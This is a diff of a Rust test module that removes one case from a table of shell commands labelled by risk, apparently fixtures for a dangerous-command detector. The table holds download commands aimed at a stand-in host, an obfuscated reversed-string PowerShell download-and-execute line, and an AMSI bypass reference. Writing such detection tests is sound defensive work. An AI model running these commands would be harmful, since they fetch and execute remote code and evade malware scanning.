@@ -263,7 +263,6 @@ mod tests {
             ("explorer http://a.example/a.exe", "downloads medium"),
             ("expand \\\\a.example\\s\\a.cab a.exe", "downloads medium"),
             ("tar -xf \\\\a.example\\s\\a.tar", "downloads medium"),
-            ("tar -xf \\\\a.example\\s\\a.zip & setup.exe", "download-and-run high"),
             ("node -e \"require('https').get('https://a.example/a')\"", "downloads medium"),
             ("powershell -c \"-join('xei|a/elpmaxe.a mri'[18..0])|iex\"", "download-and-run high"),
             ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "scan-evasion high"),
